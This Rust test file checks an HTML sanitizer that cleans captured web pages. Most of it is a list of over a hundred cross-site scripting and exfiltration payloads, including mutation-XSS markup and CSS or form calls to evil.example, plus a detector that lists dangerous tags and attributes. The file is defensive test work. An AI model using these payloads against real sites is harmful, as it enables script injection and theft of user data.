//! Pages that try to run something, to reach out, or to break out. Nothing does.

use scraper::Html;

use super::{Asset, Base, Page, Unshown, Use, assets, assets_of_style, clean, clean_style};

const ORIGIN: &str = "https://green.example.com";

fn base() -> Base {
    Base::new(&ORIGIN.parse().unwrap(), "/shop/index.html")
}

/// Every asset was captured.
#[expect(clippy::unnecessary_wraps, reason = "as a server with fewer assets answers")]
fn all(asset: &Asset) -> Option<String> {
    Some(format!("/captured{}", asset.path))
}

fn cleaned(html: &str) -> Page {
    clean(html, &base(), &all).unwrap()
}

/// What in a page runs or reaches out, found by another reading than the one that cleans.
fn harm(html: &str) -> Vec<String> {
    let page = Html::parse_document(html);
    let mut found = Vec::new();
    for element in page.tree.nodes().filter_map(|it| it.value().as_element()) {
        let name = element.name();
        let is_known_meta = name == "meta" && element.attrs().collect::<Vec<_>>() == [("charset", "utf-8")];
        let runs = [
            "script",
            "iframe",
            "object",
            "embed",
            "base",
            "meta",
            "frame",
            "foreignobject",
            "animate",
            "math",
            "noscript",
            "template",
            "applet",
            "portal",
            "set",
            "audio",
            "track",
        ];
        if runs.contains(&name.to_ascii_lowercase().as_str()) && !is_known_meta {
            found.push(format!("<{name}>"));
        }
        for (attribute, value) in element.attrs() {
            let is_safe = match attribute {
                "href" => value.starts_with('#') || value.starts_with("/captured/"),
                "src" | "poster" | "background" => is_place(value),
                "srcset" => value.split(", ").all(is_place),
                "style" => css_harm(value).is_empty(),
                "action" | "formaction" | "srcdoc" | "data" | "ping" | "target" | "http-equiv"
                | "autofocus" | "xlink:href" | "manifest" | "cite" | "longdesc" | "profile" | "codebase"
                | "from" | "to" | "values" | "nonce" => false,
                other => !other.starts_with("on") && !value.to_ascii_lowercase().contains("url(http"),
            };
            if !is_safe {
                found.push(format!("{name} {attribute}={value}"));
            }
        }
        if name == "style" {
            let text: String =
                page.tree.nodes().filter_map(|it| it.value().as_text()).map(|it| it.to_string()).collect();
            found.extend(css_harm(&text));
        }
    }
    found
}

fn is_place(value: &str) -> bool {
    value.starts_with("/captured/") || value.starts_with("data:image/")
}

fn css_harm(css: &str) -> Vec<String> {
    let css = css.to_ascii_lowercase();
    let addresses = css.match_indices("url(").filter_map(|(at, _)| {
        let inside = css[at + 4..].trim_start_matches(['"', '\'']);
        let is_safe = is_place(inside) || inside.starts_with('#');
        (!is_safe).then(|| inside.chars().take(40).collect())
    });
    let words = ["expression(", "javascript:", "-moz-binding:url", "</style", "evil"];
    addresses.chain(words.iter().filter(|it| css.contains(**it)).map(|it| (*it).to_owned())).collect()
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import 'https://evil.example/x'</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('evil');\">",
    "<img src=\"https://evil.example/pixel.gif\">",
    "<img srcset=\"https://evil.example/a 1x, //evil.example/b 2x\">",
    "<img src='/\\evil.example/x'>",
    "<body onload=alert(1)>",
    "<body background=https://evil.example/x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=https://evil.example/x.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"https://evil.example/x.svg#y\"/></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x\"/></svg>",
    "<svg><image href=https://evil.example/x.png></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
    "<svg><rect fill=\"url(https://evil.example/x)\" mask=\"u\\72l(https://evil.example/y)\"/></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Set-Cookie content=evil>",
    "<base href=https://evil.example/><img src=x.png>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" &#14; javascript:alert(1)\" target=_top ping=https://evil.example/>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=https://evil.example/ method=post><input type=submit formaction=javascript:alert(1)></form>",
    "<form id=f></form><button form=f formaction=https://evil.example/>go</button>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x codebase=https://evil.example/></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=script href=https://evil.example/x.js>",
    "<link rel=prefetch href=https://evil.example/>",
    "<link rel=\"dns-prefetch\" href=//evil.example>",
    "<link rel=manifest href=/m.json><link rel=icon href=https://evil.example/f.ico>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>@import 'https://evil.example/x.css' screen;</style>",
    "<style>@\\69mport 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style>body{background:u\\72 l('//evil.example/x')}</style>",
    "<style>body{background:URL( \"https://evil.example/x\" )}</style>",
    "<style>body{background:image-set('https://evil.example/x' 1x)}</style>",
    "<style>body{--x:'https://evil.example/x';background:image-set(var(--x) 1x)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}</style>",
    "<style>body{-moz-binding:url(https://evil.example/x.xml#y)}</style>",
    "<style>body{width:expression(alert(1))}</style>",
    "<style>/*</style><script>alert(1)</script>*/</style>",
    "<style>a{content:'<\\/style><script>alert(1)</script>'}</style>",
    "<style>a{content:\"</style><img src=x onerror=alert(1)>\"}</style>",
    "<style>body{background:url(https://evil.example/x</style>",
    "<style><!-- @import 'https://evil.example/x.css'; --></style>",
    "<p style='background:url(https://evil.example/x)'>x",
    "<p style='background:\\75rl(\"https://evil.example/x\")'>x",
    "<p style=\"x:expression(alert(1))\">x",
    "<video poster=https://evil.example/x src=https://evil.example/y autoplay><source src=//evil.example/z></video>",
    "<audio src=https://evil.example/x autoplay onplay=alert(1)></audio>",
    "<picture><source srcset=https://evil.example/x><img src=x></picture>",
    "<input type=image src=https://evil.example/x>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing>\n&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><script>alert(1)</script>]]></svg>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<div id='1' title='--><img src=x onerror=alert(1)>'>",
    "<p/onclick=alert(1)/>",
    "<img/src=\"x\"/onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a\u{b}onmouseover=alert(1)>x</a>",
    "<x-y onclick=alert(1) style='background:url(//evil.example)'>x</x-y>",
    "<div data-x='<script>' data-\u{0}=1>",
    // Markup that means something else when it is read twice.
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><noscript>&lt;/noscript>&lt;style onload=alert(1)></noscript></desc></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<table><td><svg><desc><td><style><a title=\"</style><img src=x onerror=alert(1)>\"></a></style></td></desc></svg></td></table>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
    "<p><svg><style><!--</style></p><img src=x onerror=alert(1)>-->",
    "<a><table><a><script>alert(1)</script>",
    "<table><tr><p><a><td></a><img src=x onerror=alert(1)>",
    "<b><p><i></b><script>alert(1)</script></i>",
    "<form><form><form action=javascript:alert(1)>",
    "<html><head><body><html onload=alert(1)><body onpageshow=alert(1)>",
];

#[test]
fn nothing_runs_and_nothing_leaves() {
    for hostile in HOSTILE {
        for html in [
            (*hostile).to_owned(),
            format!("<!doctype html><html><head>{hostile}</head><body><p>x</p></body></html>"),
            format!("<!doctype html><table><tr><td>{hostile}<td>y</table>"),
            format!("<svg><g>{hostile}</g></svg>"),
            format!("<select><option>{hostile}</select>"),
        ] {
            match clean(&html, &base(), &all) {
                Ok(page) => {
                    assert_eq!(harm(&page.html), Vec::<String>::new(), "{html}\n{}", page.html);
                    assert!(
                        !page.html.contains("evil.example") || hostile.contains("&lt;"),
                        "{html}\n{}",
                        page.html
                    );
                }
                Err(unshown) => assert_eq!(unshown, Unshown::Unstable, "{html}"),
            }
        }
    }
}

#[test]
fn the_reading_that_looks_for_harm_finds_it() {
    let harmful = HOSTILE.iter().filter(|it| !harm(it).is_empty()).count();
    assert!(harmful > HOSTILE.len() / 2, "{harmful} of {}", HOSTILE.len());
}

#[test]
fn a_page_keeps_what_people_see() {
    let page = cleaned(
        "<!doctype html><html lang=de><head><title>Shop</title><link rel=stylesheet href=a.css media=screen>\
         <style>h1 > b { color: red; background: url('b.png') }</style></head><body class='dark'>\
         <h1 style='margin: 1px'>Hello &amp; <b>you</b></h1><a href=/next title=on>next</a>\
         <img src=logo.png alt=Logo srcset='logo.png 1x, /big.png 2x'><pre>\n\nx</pre>\
         <svg viewBox='0 0 1 1'><linearGradient id=g><stop offset=0 /></linearGradient><path d='M0 0' fill='url(#g)'/></svg>\
         <my-card data-size=big>card</my-card><unknown>kept</unknown></body></html>",
    );
    for kept in [
        "<!DOCTYPE html><html lang=\"de\"><head><meta charset=\"utf-8\"><title>Shop</title>",
        "<link rel=\"stylesheet\" href=\"/captured/shop/a.css\" media=\"screen\">",
        "h1 > b { color: red; background: url(\"/captured/shop/b.png\") }",
        "<body class=\"dark\"><h1 style=\"margin: 1px\">Hello &amp; <b>you</b></h1>",
        "<a href=\"#\" title=\"on\">next</a>",
        "srcset=\"/captured/shop/logo.png 1x, /captured/big.png 2x\"",
        "<pre>\n\nx</pre>",
        "viewBox=\"0 0 1 1\"",
        "fill=\"url(&quot;#g&quot;)\"",
        "<my-card data-size=\"big\">card</my-card>kept</body>",
    ] {
        assert!(page.html.contains(kept), "{kept}\n{}", page.html);
    }
    assert!(page.left_out.is_empty(), "{:?}", page.left_out);
}

/// mozilla/side-view 42 and alphagov/collections PR 129: a page that refuses to be framed showed a blank box.
#[test]
fn a_page_that_refuses_framing_is_shown_all_the_same() {
    let page = cleaned(
        "<meta http-equiv=Content-Security-Policy content=\"frame-ancestors 'none'\">\
         <script>if (top !== self) document.body.remove()</script><p>here</p><iframe src=//a.b></iframe>",
    );
    assert!(page.html.contains("<p>here</p>") && page.html.contains("[left out]"));
    assert_eq!(page.left_out.get("script"), Some(&1));
    assert_eq!(page.left_out.get("frame"), Some(&1));
}

#[test]
fn the_assets_of_the_same_origin_are_listed_once_and_no_others() {
    let found = assets(
        "<base href=/v2/x/><link rel=stylesheet href=a.css><img src=a.png><img src=a.png><img src=//evil.example/b>\
         <style>@font-face{src:url(f.woff2)} p{background:url(../c.png)}</style><script src=s.js></script>\
         <a href=/page></a><iframe src=/frame></iframe><img src=data:image/png;base64,AA>",
        &base(),
    );
    let said: Vec<_> = found.iter().map(|it| (it.path.as_str(), it.used_as)).collect();
    assert_eq!(
        said,
        [
            ("/v2/x/a.css", Use::Style),
            ("/v2/x/a.png", Use::Image),
            ("/v2/x/f.woff2", Use::Font),
            ("/v2/c.png", Use::Image)
        ]
    );
    assert!(assets("<base href=//evil.example/><img src=a.png>", &base()).is_empty());
    let sheet = "@import 'more.css' screen; a{background:url(x.png)}";
    let of_sheet = assets_of_style(sheet, &base().beside("/css/site.css"));
    assert_eq!(
        of_sheet.iter().map(|it| it.path.as_str()).collect::<Vec<_>>(),
        ["/css/more.css", "/css/x.png"]
    );
    let clean = clean_style(sheet, &base().beside("/css/site.css"), &all);
    assert_eq!(
        clean,
        "@import url(\"/captured/css/more.css\") screen; a{background:url(\"/captured/css/x.png\")}"
    );
}

#[test]
fn an_asset_that_was_not_captured_is_not_named() {
    let page = clean("<img src=a.png alt=A><p style='background:url(b.png)'>x", &base(), &|_| None).unwrap();
    assert!(!page.html.contains("a.png") && !page.html.contains("b.png"));
    assert_eq!(page.left_out.get("asset that was not captured"), Some(&2));
}

#[test]
fn what_would_take_without_bound_is_not_shown() {
    let deep = "<div>".repeat(20_000);
    assert_eq!(clean(&deep, &base(), &all), Err(Unshown::Costly(crate::work::Spent::Depth)));
    assert_eq!(clean(&"x".repeat(9 << 20), &base(), &all), Err(Unshown::TooLarge));
    let nested = format!("<style>a{{{}}}</style>", "(".repeat(50_000));
    assert!(harm(&cleaned(&nested).html).is_empty());
    let many: Vec<_> = (0..5000).map(|it| format!("<img src=/{it}.png>")).collect();
    assert_eq!(assets(&many.concat(), &base()).len(), 200);
}
